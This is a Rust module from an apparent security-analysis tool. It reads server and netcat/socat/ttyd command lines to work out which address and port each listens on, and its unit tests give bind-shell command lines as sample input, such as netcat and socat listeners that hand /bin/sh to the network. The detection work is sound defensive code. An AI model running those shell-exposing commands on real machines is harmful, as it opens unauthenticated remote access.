// SPDX-License-Identifier: Apache-2.0 OR MIT
//! Where a program listens, as far as its command line says; the default port only of servers
//! that listen by themselves.

use thirteen_evidence::facts::Listen;

/// A server: its names, the options that give a port, the option that gives an address, the port
/// without any, the option that makes it serve one connection of inetd.
struct Server {
    names: &'static [&'static str],
    ports: &'static [&'static str],
    address: Option<&'static str>,
    default: Option<u16>,
    inetd: Option<&'static str>,
}

/// From the programs' own manuals (busybox, dropbear, OpenSSH, uhttpd).
const SERVERS: &[Server] = &[
    Server {
        names: &["telnetd", "utelnetd", "in.telnetd"],
        ports: &["-p"],
        address: Some("-b"),
        default: Some(23),
        inetd: Some("-i"),
    },
    Server {
        names: &["dropbear"],
        ports: &["-p"],
        address: None,
        default: Some(22),
        inetd: Some("-i"),
    },
    Server {
        names: &["sshd"],
        ports: &["-p"],
        address: None,
        default: Some(22),
        inetd: Some("-i"),
    },
    Server {
        names: &["httpd", "mini_httpd", "thttpd"],
        ports: &["-p"],
        address: None,
        default: None,
        inetd: Some("-i"),
    },
    Server { names: &["uhttpd"], ports: &["-p", "-s"], address: None, default: None, inetd: None },
];

/// Programs that wait on an address and a port and then run another one (busybox and ipsvd;
/// tcpserver(1) of ucspi-tcp; s6-networking), with their options that take a value.
const WAITERS: &[(&str, &str)] = &[
    ("tcpsvd", "cCbulitx"),
    ("udpsvd", "culitx"),
    ("tcpserver", "xtuglbBc"),
    ("s6-tcpserver", "cCbGgultB"),
    ("s6-tcpserver4", "cCbGgultB"),
    ("s6-tcpserver6", "cCbGgultB"),
];

/// Servers of TFTP that listen by themselves where they are told so (tftpd(8), atftpd(8)).
const TFTP: &[&str] = &["tftpd", "in.tftpd", "atftpd"];

/// Names of netcat (busybox, nc(1), ncat(1)).
const NETCATS: &[&str] = &["nc", "ncat", "netcat", "nc.openbsd", "nc.traditional"];

/// Where the program listens.
pub fn listens(name: &str, arguments: &[String]) -> Vec<Listen> {
    if let Some((name, with_value)) = WAITERS.iter().find(|own| own.0 == name) {
        return waits(name, with_value, arguments).into_iter().collect();
    }
    let own = match name {
        _ if TFTP.contains(&name) => Some(tftp(arguments)),
        _ if NETCATS.contains(&name) => Some(netcat(arguments)),
        "socat" => Some(arguments.iter().find_map(|word| socat(word))),
        "ttyd" => Some(ttyd(arguments)),
        "pure-ftpd" => Some(pure_ftpd(arguments)),
        "vsftpd" => Some(vsftpd(arguments)),
        _ => None,
    };
    if let Some(own) = own {
        return own.into_iter().collect();
    }
    let Some(server) = SERVERS.iter().find(|server| server.names.contains(&name)) else {
        return Vec::new();
    };
    if server.inetd.is_some_and(|flag| arguments.iter().any(|argument| argument == flag)) {
        return Vec::new();
    }
    let values = |option: &'static str| {
        arguments.iter().enumerate().filter_map(move |(index, argument)| {
            match argument.strip_prefix(option)? {
                "" => arguments.get(index + 1).map(String::as_str),
                joined => Some(joined),
            }
        })
    };
    let address = server.address.and_then(|option| values(option).next());
    let mut all: Vec<Listen> = Vec::new();
    for option in server.ports {
        for place in values(option).filter_map(|value| place(value, address)) {
            if !all.contains(&place) {
                all.push(place);
            }
        }
    }
    let names_ports = server.ports.iter().any(|option| values(option).next().is_some());
    // A port that is given and cannot be read is not the default one.
    if let Some(port) = server.default.filter(|_| !names_ports) {
        all.extend(place(&port.to_string(), address));
    }
    all
}

/// `tcpsvd -vE 127.0.0.1 21 ftpd`; 0 is every address, and the port may have a name.
fn waits(name: &str, with_value: &str, arguments: &[String]) -> Option<Listen> {
    let mut words = arguments.iter().peekable();
    while let Some(flags) = words.next_if(|word| word.starts_with('-')) {
        if flags == "--" {
            break;
        }
        // A value is the rest of the word, or the next one.
        let place = flags.find(|flag| with_value.contains(flag));
        if place.is_some_and(|at| at + 1 == flags.len()) {
            words.next();
        }
    }
    let (address, port) = (words.next()?, words.next()?);
    let address = match address.trim_matches(['[', ']']) {
        "0" => "0.0.0.0",
        address => address,
    };
    let port = super::inetd::port(port, None).filter(|port| *port > 0)?;
    let protocol = if name == "udpsvd" { "udp" } else { "tcp" };
    Some(Listen { protocol: protocol.to_owned(), port, address: address.to_owned() })
}

/// `in.tftpd -l -a 127.0.0.1:69`, `atftpd --daemon --bind-address 127.0.0.1 --port 69`.
fn tftp(arguments: &[String]) -> Option<Listen> {
    let alone = ["-l", "-L", "--listen", "--foreground", "--daemon"];
    let is_alone = |word: &String| alone.contains(&word.as_str());
    if !arguments.iter().any(is_alone) {
        return None;
    }
    let value = |names: &[&str]| {
        arguments.iter().enumerate().find_map(|(at, word)| {
            let name = names.iter().find(|name| word.starts_with(**name))?;
            match word.strip_prefix(*name)?.trim_start_matches('=') {
                "" => arguments.get(at + 1).map(String::as_str),
                joined => Some(joined),
            }
        })
    };
    let port = value(&["--port"]).unwrap_or("69");
    let own = match value(&["-a", "--address", "--bind-address"]) {
        None => place(port, None),
        // Without a port behind it, as an address of IPv6 may stand too.
        Some(own) if own.ends_with(']') || own.matches(':').count() != 1 => {
            place(port, Some(own.trim_matches(['[', ']'])))
        }
        Some(own) => place(own, None),
    };
    own.map(|own| Listen { protocol: "udp".to_owned(), ..own })
}

/// `nc -ll -p 23 -s 192.0.2.1 -e /bin/sh`, `ncat -l 192.0.2.1 23`: what stands behind `-e` is another
/// program's.
fn netcat(arguments: &[String]) -> Option<Listen> {
    let (mut is_server, mut ends, mut port, mut address) = (false, false, None, None);
    let mut free: Vec<&str> = Vec::new();
    let mut words = arguments.iter();
    while let Some(word) = words.next() {
        let Some(flags) = word.strip_prefix('-') else {
            free.push(word);
            continue;
        };
        if let Some(long) = flags.strip_prefix('-') {
            is_server |= long == "listen";
            if matches!(long, "exec" | "sh-exec" | "lua-exec") {
                break;
            }
            continue;
        }
        for (at, flag) in flags.char_indices() {
            is_server |= flag == 'l';
            if !"pswiecogqGmx".contains(flag) {
                continue;
            }
            if matches!(flag, 'e' | 'c') {
                ends = true;
                break;
            }
            let value = match &flags[at + 1..] {
                "" => words.next().map(String::as_str),
                joined => Some(joined),
            };
            match flag {
                'p' => port = value,
                's' => address = value,
                _ => {}
            }
            break;
        }
        if ends {
            break;
        }
    }
    // Without `-p` the words that are left are where it listens, else who may connect.
    let (address, port) = match (port, free.as_slice()) {
        (Some(port), _) => (address, port),
        (None, [host, port, ..]) => (Some(*host), *port),
        (None, [port]) => (address, *port),
        (None, []) => return None,
    };
    let is_udp = arguments.iter().take_while(|word| *word != "-e").any(|word| word == "-u");
    let own = place(port, address).filter(|_| is_server)?;
    Some(if is_udp { Listen { protocol: "udp".to_owned(), ..own } } else { own })
}

/// `TCP-LISTEN:23,bind=192.0.2.1,fork` (socat(1)).
fn socat(word: &str) -> Option<Listen> {
    let word = word.trim_matches(['"', '\'']);
    let (kind, rest) = word.split_once(':')?;
    // `TCP-LISTEN`, `tcp-l`: it takes small letters and short names.
    let kind = kind.to_ascii_uppercase();
    let family = kind.strip_suffix("-LISTEN").or_else(|| kind.strip_suffix("-L"))?;
    let of_network = ["TCP", "UDP", "SCTP", "OPENSSL", "SSL"];
    if !of_network.contains(&family.trim_end_matches(['4', '6'])) {
        return None;
    }
    let protocol = if family.starts_with("UDP") { "udp" } else { "tcp" };
    let mut options = rest.split(',');
    let port = options.next()?;
    let bind = options.clone().find_map(|own| own.strip_prefix("bind="));
    let is_own = options.any(|own| matches!(own, "interface=lo" | "so-bindtodevice=lo"));
    let bind = if is_own { Some("127.0.0.1") } else { bind };
    let own = place(port, bind.map(|own| own.trim_matches(['[', ']'])))?;
    Some(Listen { protocol: protocol.to_owned(), ..own })
}

/// 7681 where nothing else is said; `-i` is an interface, an address or the path of a socket (ttyd's
/// manual).
fn ttyd(arguments: &[String]) -> Option<Listen> {
    let value = |short: &str, long: &str| {
        arguments.iter().enumerate().find_map(|(at, word)| {
            if let Some(joined) = word.strip_prefix(long) {
                return match joined.strip_prefix('=') {
                    Some(value) => Some(value),
                    None => arguments.get(at + 1).map(String::as_str),
                };
            }
            match word.strip_prefix(short)? {
                "" => arguments.get(at + 1).map(String::as_str),
                joined => Some(joined),
            }
        })
    };
    let address = match value("-i", "--interface") {
        Some(path) if path.contains('/') => return None,
        Some("lo") => Some("127.0.0.1"),
        Some(own) if own.parse::<std::net::IpAddr>().is_ok() => Some(own),
        _ => None,
    };
    place(value("-p", "--port").unwrap_or("7681"), address)
}

/// `-S 127.0.0.1,21`, `--bind=127.0.0.1,21`: either part may be left out (pure-ftpd(8)).
fn pure_ftpd(arguments: &[String]) -> Option<Listen> {
    let value = arguments.iter().enumerate().rev().find_map(|(at, word)| {
        let joined = word.strip_prefix("--bind").or_else(|| word.strip_prefix("-S"))?;
        match joined.trim_start_matches('=') {
            "" => arguments.get(at + 1).map(String::as_str),
            joined => Some(joined),
        }
    })?;
    let (address, port) = value.split_once(',').unwrap_or((value, "21"));
    let address = Some(address.trim_matches(['[', ']'])).filter(|own| !own.is_empty());
    place(if port.is_empty() || port == "ftp" { "21" } else { port }, address)
}

/// `-olisten_address=127.0.0.1`: a setting of its configuration (vsftpd(8)).
fn vsftpd(arguments: &[String]) -> Option<Listen> {
    let value = |name: &str| {
        arguments.iter().rev().find_map(|word| word.strip_prefix("-o")?.strip_prefix(name))
    };
    let address = value("listen_address=").or_else(|| value("listen_address6="))?;
    place(value("listen_port=").unwrap_or("21"), Some(address))
}

/// `PORT`, `ADDRESS:PORT`, `[ADDRESS]:PORT`.
fn place(value: &str, address: Option<&str>) -> Option<Listen> {
    let (own, port) = match value.rsplit_once(':') {
        Some((own, port)) => (Some(own.trim_matches(['[', ']'])), port),
        None => (None, value),
    };
    let address = own.filter(|own| !own.is_empty()).or(address).unwrap_or("0.0.0.0");
    let port = port.parse().ok().filter(|port| *port > 0)?;
    Some(Listen { protocol: "tcp".to_owned(), port, address: address.to_owned() })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(name: &str, line: &str) -> Vec<(String, u16)> {
        let arguments: Vec<String> = line.split_whitespace().map(str::to_owned).collect();
        listens(name, &arguments).into_iter().map(|own| (own.address, own.port)).collect()
    }

    fn one(address: &str, port: u16) -> Vec<(String, u16)> {
        vec![(address.to_owned(), port)]
    }

    #[test]
    fn ports_as_the_command_line_gives_them() {
        assert_eq!(of("telnetd", "-F -l /bin/sh"), one("0.0.0.0", 23));
        assert_eq!(of("telnetd", "-p 2323 -b 192.168.1.1"), one("192.168.1.1", 2323));
        assert_eq!(of("dropbear", "-p 127.0.0.1:2222 -g"), one("127.0.0.1", 2222));
        assert_eq!(of("uhttpd", "-p 0.0.0.0:80 -p [::]:80").len(), 2);
    }

    #[test]
    fn what_waits_for_another_program() {
        assert_eq!(of("tcpsvd", "-vE 127.0.0.1 21 ftpd -w /"), one("127.0.0.1", 21));
        assert_eq!(of("tcpsvd", "-c 5 -l x 0 ftp ftpd"), one("0.0.0.0", 21));
        assert_eq!(of("tcpserver", "-HRv -c40 -u 1000 0 telnet telnetd"), one("0.0.0.0", 23));
        assert_eq!(of("s6-tcpserver", "-c 8 -- ::1 2323 telnetd -i"), one("::1", 2323));
        assert!(of("tcpsvd", "-l").is_empty());
        let arguments = ["0.0.0.0", "69", "tftpd"].map(str::to_owned);
        assert_eq!(listens("udpsvd", &arguments)[0].protocol, "udp");
    }

    #[test]
    fn a_server_of_tftp_that_stands_alone() {
        assert_eq!(of("in.tftpd", "-l -a 127.0.0.1:69 -s /srv"), one("127.0.0.1", 69));
        assert_eq!(of("in.tftpd", "-L --address ::1"), one("::1", 69));
        assert_eq!(of("in.tftpd", "-l -s /srv"), one("0.0.0.0", 69));
        assert_eq!(
            of("atftpd", "--daemon --bind-address 127.0.0.1 --port 6969"),
            one("127.0.0.1", 6969)
        );
        // By inetd.
        assert!(of("in.tftpd", "-s /srv").is_empty());
    }

    #[test]
    fn what_hands_a_program_to_the_network() {
        assert_eq!(of("nc", "-ll -p 4444 -e /bin/sh"), one("0.0.0.0", 4444));
        assert_eq!(of("nc", "-lp4444 -s 127.0.0.1 -e /bin/sh -p 1"), one("127.0.0.1", 4444));
        assert_eq!(of("ncat", "-l 127.0.0.1 4444 --sh-exec /bin/sh"), one("127.0.0.1", 4444));
        assert_eq!(of("ncat", "-lk 4444 -c /bin/sh"), one("0.0.0.0", 4444));
        assert!(of("nc", "192.0.2.1 4444 -e /bin/sh").is_empty());
        let word = "TCP4-LISTEN:4444,bind=127.0.0.1,fork";
        assert_eq!(of("socat", &format!("-d {word} EXEC:/bin/sh")), one("127.0.0.1", 4444));
        assert!(of("socat", "- TCP:192.0.2.1:80").is_empty());
        assert_eq!(of("socat", "tcp-l:4444,fork exec:/bin/sh"), one("0.0.0.0", 4444));
        assert_eq!(of("socat", "TCP-LISTEN:4444,interface=lo EXEC:x"), one("127.0.0.1", 4444));
        assert!(of("socat", "VSOCK-LISTEN:4444 EXEC:/bin/sh").is_empty());
        assert_eq!(of("ttyd", "-W /bin/sh"), one("0.0.0.0", 7681));
        assert_eq!(of("ttyd", "--port=80 -i lo login"), one("127.0.0.1", 80));
        assert!(of("ttyd", "-i /run/ttyd.sock login").is_empty());
    }

    #[test]
    fn servers_of_ftp_that_are_given_an_address() {
        assert_eq!(of("pure-ftpd", "-S 127.0.0.1,21"), one("127.0.0.1", 21));
        assert_eq!(of("pure-ftpd", "-B --bind=::1,2121"), one("::1", 2121));
        assert_eq!(of("pure-ftpd", "-S ,2121"), one("0.0.0.0", 2121));
        assert_eq!(of("vsftpd", "-olisten_address=127.0.0.1"), one("127.0.0.1", 21));
        assert!(of("vsftpd", "/etc/x.conf").is_empty() && of("pure-ftpd", "-B").is_empty());
    }

    #[test]
    fn what_is_not_said_is_not_guessed() {
        assert!(of("dropbear", "-i -B").is_empty());
        assert!(of("dropbear", "-p $PORT").is_empty());
        assert!(of("httpd", "-h /www").is_empty());
        assert!(of("hubd", "-p 1").is_empty());
        assert!(of("telnetd", "-p 99999").is_empty());
    }
}
